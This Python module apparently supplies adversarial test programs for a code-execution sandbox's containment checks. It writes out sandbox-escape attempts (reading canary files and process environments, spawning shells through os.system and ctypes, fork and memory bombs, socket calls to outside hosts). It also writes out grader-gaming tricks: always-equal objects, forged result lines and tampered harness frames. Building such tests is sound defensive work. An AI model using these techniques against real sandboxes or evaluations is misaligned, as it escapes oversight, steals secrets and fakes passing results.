"""The adversarial programs of :mod:`falcon_h1r.sandbox.attacks`, as source templates.

Each defines ``solve`` (graded with ``assert solve(7) == <fresh token>``) and prints whatever it
managed to grab, so the host can look for secrets in the output. ``ATTACK_EXPECTED`` lists the
reasons a run may end with while the in-process guard is on; the host checks decide containment.
"""

from __future__ import annotations

from textwrap import dedent

_FIND_HEX = """
import re as _re
def _hex16(values, depth=0):
    for v in values:
        if type(v) is str and _re.fullmatch('[0-9a-f]{16}', v):
            return v
        if depth < 3 and isinstance(v, (list, tuple, set, frozenset)):
            found = _hex16(list(v), depth + 1)
            if found:
                return found
        if depth < 3 and isinstance(v, dict):
            found = _hex16(list(v.keys()) + list(v.values()), depth + 1)
            if found:
                return found
    return ''
"""

_A: dict[str, tuple[str, str, tuple[str, ...]]] = {}  # name -> (kind, code, reasons with the guard on)


def _attack(kind: str, name: str, code: str, *expected: str, find_hex: bool = False) -> None:
    _A[name] = (kind, (dedent(_FIND_HEX) if find_hex else "") + dedent(code).lstrip("\n"), expected)


def _grab(kind: str, name: str, body: str, *expected: str) -> None:
    """An attack that tries ``body`` (which sets ``leak``), prints what it got, and returns it."""
    code = "leak = ''\ntry:\n" + "".join("    " + line + "\n" for line in dedent(body).strip().splitlines())
    code += "except Exception as exc:\n    leak = repr(exc)\nprint(leak)\ndef solve(x):\n    return leak\n"
    _attack(kind, name, code, *(expected or ("tests_failed",)))


# ----------------------------------------------------------------------------- host files
_grab("host_files", "read_canary", "leak = open('__CANARY__').read()")
_grab("host_files", "read_canary_dir_fd", """
    import os
    root = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
    leak = os.read(os.open('__CANARY__'.lstrip('/'), os.O_RDONLY, dir_fd=root), 4096).decode()
""")
_grab("host_files", "read_canary_via_proc_root", """
    for prefix in ('/proc/1/root', '/proc/self/root', '/proc/self/cwd/../..', '/proc/thread-self/root'):
        try:
            leak += open(prefix + '__CANARY__').read()
        except OSError as exc:
            leak += repr(exc)
""")
_grab("host_files", "read_package_source", "leak = open('__PACKAGE_FILE__').read()")
_grab("host_files", "list_host_dirs", """
    import os
    for top in ('__HOST_DIR__', '/', '/tmp', '/root', '/home', '/opt', '/srv', '/etc', '/dev/shm', '/var/tmp'):
        try:
            leak += top + ': ' + ' '.join(os.listdir(top)) + '\\n'
        except OSError as exc:
            leak += repr(exc) + '\\n'
""")
_grab("host_files", "walk_root_for_secrets", """
    import os
    seen = 0
    for d, dirs, files in os.walk('/'):
        dirs[:] = [x for x in dirs if d != '/' or x not in ('proc', 'usr')]
        for f in files:
            seen += 1
            if f.startswith('secret_') or f.startswith('canary_'):
                leak += os.path.join(d, f) + ' ' + open(os.path.join(d, f)).read() + '\\n'
        if seen > 20000:
            break
""")
_grab("host_files", "write_outside", "open('__OUTSIDE__', 'w').write('escaped')")
_grab("host_files", "write_outside_dir_fd", """
    import os
    d = os.open(os.path.dirname('__OUTSIDE__'), os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open(os.path.basename('__OUTSIDE__'), os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=d)
    os.write(fd, b'escaped')
""")
_grab("host_files", "write_dev_shm_and_var_tmp", """
    import os
    for d in ('/dev/shm', '/var/tmp', '/run', '/'):
        try:
            open(os.path.join(d, os.path.basename('__OUTSIDE__')), 'w').write('escaped')
        except OSError as exc:
            leak += repr(exc)
""")
_grab("host_files", "write_host_dir", "open('__HOST_DIR__/escaped.txt', 'w').write('escaped')")
_attack("host_files", "delete_canary", "import os\nos.remove('__CANARY__')\ndef solve(x):\n    return ''\n",
        "runtime_error")
_attack("host_files", "overwrite_canary", "open('__CANARY__', 'w').write('overwritten')\ndef solve(x):\n    return ''\n",
        "runtime_error")
_attack("host_files", "symlink_to_canary", """
    import os
    os.symlink('__CANARY__', 'link')
    open('link', 'w').write('overwritten')
    def solve(x):
        return ''
""", "runtime_error")
_attack("host_files", "hardlink_to_canary", "import os\nos.link('__CANARY__', 'h')\ndef solve(x):\n    return ''\n",
        "runtime_error")
_attack("host_files", "chdir_root_and_write", "import os\nos.chdir('/')\nopen('escaped', 'w').write('x')\n"
        "def solve(x):\n    return ''\n", "runtime_error")
_grab("host_files", "rename_into_host_dir", """
    open('x', 'w').write('escaped')
    import os
    os.rename('x', '__HOST_DIR__/renamed.txt')
""")
_grab("host_files", "mount_over_tmp_ctypes", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    leak = str(libc.mount(b'/', b'/tmp', None, 4096, None)) + str(ctypes.get_errno())
    leak += open('/tmp/__CANARY__').read()
""", "forbidden: native")

# ----------------------------------------------------------------------------- other processes
_grab("processes", "list_processes", """
    import os
    for pid in os.listdir('/proc'):
        try:
            leak += pid + ' ' + open('/proc/' + pid + '/cmdline', 'rb').read().replace(b'\\0', b' ').decode() + '\\n'
        except OSError as exc:
            leak += repr(exc)
""")
_grab("processes", "read_env_secrets", """
    import os
    for pid in os.listdir('/proc'):
        try:
            leak += open('/proc/' + pid + '/environ', 'rb').read().decode('latin-1') + '\\n'
        except OSError as exc:
            leak += repr(exc)
    leak += os.environ.get('__SECRET_NAME__', '')
""")
_attack("processes", "signal_everything", """
    import os, signal
    for pid in range(2, 40000):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    def solve(x):
        return ''
""", "forbidden: process")
_grab("processes", "read_other_memory", """
    import os
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            try:
                leak += open('/proc/' + pid + '/mem', 'rb').read(16).hex()
            except OSError as exc:
                leak += repr(exc)
""")
_grab("processes", "ptrace_via_subclasses", """
    cdll = [k for k in object.__subclasses__() if k.__name__ == 'CDLL'][0]
    libc = cdll(None)
    leak = 'ptrace=%d vm_read=%d' % (libc.ptrace(16, 1, 0, 0), libc.process_vm_readv(1, 0, 0, 0, 0, 0))
""", "forbidden: native")
_grab("processes", "proc_self_mem_write", """
    f = open('/proc/self/mem', 'r+b')
    leak = 'opened'
""")

# ----------------------------------------------------------------------------- memory, frames, builtins
_attack("frames", "heap_scan_for_expected", """
    import gc
    def solve(x):
        return _hex16(gc.get_objects())
""", "tests_failed", "forbidden: process", find_hex=True)  # touching some objects imports a blocked module
_attack("frames", "frame_walk_for_expected", """
    import sys
    def solve(x):
        f, values = sys._getframe(1), []
        while f is not None:
            values += list(f.f_locals.values()) + list(f.f_globals.values())
            f = f.f_back
        return _hex16(values)
""", "tests_failed", find_hex=True)
_attack("frames", "traceback_walk_for_expected", """
    def solve(x):
        try:
            raise ValueError
        except ValueError as exc:
            f, values = exc.__traceback__.tb_frame, []
        while f is not None:
            values += list(f.f_locals.values()) + list(f.f_globals.values())
            f = f.f_back
        return _hex16(values)
""", "tests_failed", find_hex=True)
_attack("frames", "rewrite_harness_through_frames", """
    import sys
    f = sys._getframe()
    while f is not None:
        g = f.f_globals
        if 'encode_value' in g:
            g['encode_value'] = lambda v: {'t': 'str', 'v': 'forged'}
        for k in ('calls', 'tests', 'expected'):
            if isinstance(f.f_locals.get(k), list):
                f.f_locals[k].clear()
        f = f.f_back
    def solve(x):
        return 'forged'
""", "tests_failed")
_attack("builtins", "shadow_builtins_in_globals", """
    abs = sorted = len = str = repr = type = isinstance = hash = lambda *a, **k: True
    def solve(x):
        return True
""", "tests_failed")
_attack("builtins", "patch_builtins_and_json", """
    import builtins, json, json.encoder
    forged = '{"e": "result", "i": 0, "v": {"t": "bool", "v": true}}'
    json.dumps = lambda *a, **k: forged
    json.encoder.c_make_encoder = None
    json.encoder.encode_basestring_ascii = lambda s: '"forged"'
    builtins.type = lambda *a: str
    builtins.isinstance = lambda *a: True
    builtins.eval = lambda *a, **k: 'forged'
    builtins.exec = lambda *a, **k: None
    def solve(x):
        return 'forged'
""", "tests_failed", "runtime_error")  # the program's own report lines come out garbled
_attack("equality", "always_equal_object", """
    class Anything:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __hash__ = object.__hash__
    def solve(x):
        return Anything()
""", "tests_failed")
_attack("equality", "always_equal_str_subclass", """
    class S(str):
        def __eq__(self, other): return True
        __hash__ = str.__hash__
    def solve(x):
        return S('x')
""", "tests_failed")
_attack("equality", "always_equal_int_subclass", """
    class I(int):
        def __eq__(self, other): return True
        __hash__ = int.__hash__
    def solve(x):
        return [I(1)]
""", "tests_failed")
_attack("equality", "spoofed_class", """
    class Fake:
        __class__ = property(lambda self: str)
        def __eq__(self, other): return True
    def solve(x):
        return Fake()
""", "tests_failed")

# ----------------------------------------------------------------------------- forged reports
_attack("forgery", "forge_report_lines", """
    import os
    lines = (b'{"e": "result", "i": 0, "ok": true, "passed": true, "v": {"t": "bool", "v": true}}\\n'
             b'{"e": "result", "i": 0, "v": {"t": "any"}}\\n{"e": "done", "passed": true}\\n'
             b'{"e": "exit", "code": 0, "signal": 0}\\n')
    for fd in range(1, 64):
        try:
            os.write(fd, lines)
        except OSError:
            pass
    os._exit(0)
""", "tests_failed", "runtime_error")
_attack("forgery", "forge_status_frame", """
    import os, struct, json
    frame = json.dumps({"code": 0, "signal": 0, "cpu": 0.0, "timeout": False, "passed": True}).encode()
    for fd in range(1, 64):
        try:
            os.write(fd, struct.pack('>I', len(frame)) + frame)
        except OSError:
            pass
    os._exit(0)
""", "runtime_error")
_attack("forgery", "exit_zero_before_results", "import sys\nsys.exit(0)\n", "runtime_error")
_attack("forgery", "close_report_pipe", "import os\nfor fd in range(3, 64):\n    try:\n        os.close(fd)\n"
        "    except OSError:\n        pass\ndef solve(x):\n    return ''\n", "runtime_error")

# ----------------------------------------------------------------------------- resources
_attack("resources", "fork_bomb_os_fork", "import os\nwhile True:\n    os.fork()\n", "forbidden: process")
_attack("resources", "fork_bomb_subprocess", """
    import subprocess, sys
    procs = []
    while True:
        procs.append(subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)']))
""", "forbidden: process")
_attack("resources", "thread_bomb", """
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
""", "runtime_error", "memory")
_attack("resources", "memory_bomb", "blocks = []\nwhile True:\n    blocks.append(bytearray(32 * 1024 * 1024))\n",
        "memory")
_attack("resources", "busy_loop", "while True:\n    pass\n", "cpu", "timeout")
_attack("resources", "sleep_loop", "import time\nwhile True:\n    time.sleep(0.2)\n", "timeout")
_attack("resources", "ignore_signals_and_sleep", """
    import signal, time
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM):
        signal.signal(s, signal.SIG_IGN)
    while True:
        time.sleep(1)
""", "timeout")
_attack("resources", "huge_stdout", "while True:\n    print('x' * 65536)\n", "output_limit")
_attack("resources", "huge_stderr", "import sys\nwhile True:\n    sys.stderr.write('x' * 65536)\n", "output_limit")
_attack("resources", "huge_report_pipe", "import os\nwhile True:\n    os.write(3, b'{' * 65536)\n", "output_limit")
_attack("resources", "huge_file", "with open('big.bin', 'wb') as f:\n    while True:\n"
        "        f.write(b'\\0' * (1 << 20))\n", "output_limit")
_attack("resources", "many_files", "for i in range(100000):\n    with open(f'f{i}', 'w') as f:\n"
        "        f.write('x' * 1000)\n", "runtime_error")
_attack("resources", "fill_tmpfs", "for i in range(1000):\n    with open(f'/tmp/b{i}', 'wb') as f:\n"
        "        f.write(b'x' * (1 << 19))\n", "runtime_error")
_attack("resources", "deep_recursion", """
    import sys
    sys.setrecursionlimit(10**9)
    def f(n):
        return f(n + 1)
    f(0)
""", "memory", "cpu", "timeout", "runtime_error")
_attack("resources", "c_stack_overflow_crash", """
    import sys
    sys.setrecursionlimit(10**9)
    x = []
    for _ in range(10**6):
        x = [x]
    repr(x)
""", "runtime_error: killed by SIGSEGV", "cpu", "timeout", "memory")

# ----------------------------------------------------------------------------- lifetime
_attack("lifetime", "daemon_double_fork", """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(60)
        os._exit(0)
    def solve(x):
        return ''
""", "forbidden: process")
_attack("lifetime", "non_daemon_thread_lingers", """
    import threading, time
    threading.Thread(target=time.sleep, args=(60,)).start()
    def solve(x):
        return ''
""", "tests_failed")
_attack("lifetime", "leave_process_group", "import os\nos.setsid()\ndef solve(x):\n    return ''\n",
        "tests_failed", "runtime_error")

# ----------------------------------------------------------------------------- network
_grab("network", "socket_loopback", """
    import socket
    s = socket.create_connection(('127.0.0.1', __PORT__), timeout=1)
    s.sendall(b'escaped')
""", "forbidden: network")
_grab("network", "socket_outside", """
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(('192.0.2.1', 80))
""", "forbidden: network")
_grab("network", "raw_socket_module", """
    import _socket
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    s.sendto(b'x', ('192.0.2.1', 53))
""", "forbidden: network")
_grab("network", "dns_lookup", "import socket\nleak = str(socket.getaddrinfo('example.com', 80))", "forbidden: network")
_grab("network", "abstract_unix_socket", """
    import socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect('\\0__UNIX__')
    s.sendall(b'escaped')
""", "forbidden: network")
_grab("network", "unix_socket_path", """
    import socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect('__HOST_DIR__/sock')
""", "forbidden: network")

# ----------------------------------------------------------------------------- starting processes, native code
for _name, _line in (("shell_os_system", "import os\nos.system('echo escaped > __OUTSIDE__')"),
                     ("shell_subprocess_sh", "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'echo escaped > __OUTSIDE__'])"),
                     ("shell_pty", "import pty\npty.spawn(['/bin/sh', '-c', 'echo escaped > __OUTSIDE__'])"),
                     ("shell_execv", "import os\nos.execv('/bin/sh', ['sh', '-c', 'echo escaped > __OUTSIDE__'])")):
    _attack("process", _name, _line + "\ndef solve(x):\n    return ''\n", "forbidden: process")
_attack("process", "raw_fork_exec", """
    import _posixsubprocess
    _posixsubprocess.fork_exec(['/bin/sh'], [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1,
                               False, False, None, None, None, -1, None, False)
""", "forbidden: process")
_attack("process", "recreate_builtin_fork_exec", """
    import _imp, importlib.machinery as m
    mod = _imp.create_builtin(m.ModuleSpec('_posixsubprocess', None))
    def solve(x):
        return ''
""", "tests_failed", "runtime_error", "forbidden: process")
_attack("process", "ctypes_libc_system", "import ctypes\nctypes.CDLL(None).system(b'echo escaped > __OUTSIDE__')\n"
        "def solve(x):\n    return ''\n", "forbidden: native")
_attack("process", "ctypes_via_subclasses", """
    cdll = [k for k in object.__subclasses__() if k.__name__ == 'CDLL'][0]
    cdll(None).system(b'echo escaped > __OUTSIDE__')
    def solve(x):
        return ''
""", "forbidden: native")
_attack("process", "code_object_forgery", """
    def f():
        pass
    f.__code__ = f.__code__.replace(co_code=b'\\x00' * 8)
    def solve(x):
        return ''
""", "forbidden: native")
_attack("process", "become_root", "import os\nos.setuid(0)\ndef solve(x):\n    return ''\n", "runtime_error")
_grab("process", "new_user_namespace", """
    cdll = [k for k in object.__subclasses__() if k.__name__ == 'CDLL'][0]
    leak = 'unshare=%d' % cdll(None).unshare(0x10000000 | 0x00020000)
""", "forbidden: native")

ATTACKS: dict[str, str] = {name: code for name, (_, code, _) in _A.items()}
ATTACK_EXPECTED: dict[str, tuple[str, ...]] = {name: expected for name, (_, _, expected) in _A.items()}
ATTACK_CLASSES: dict[str, str] = {name: kind for name, (kind, _, _) in _A.items()}
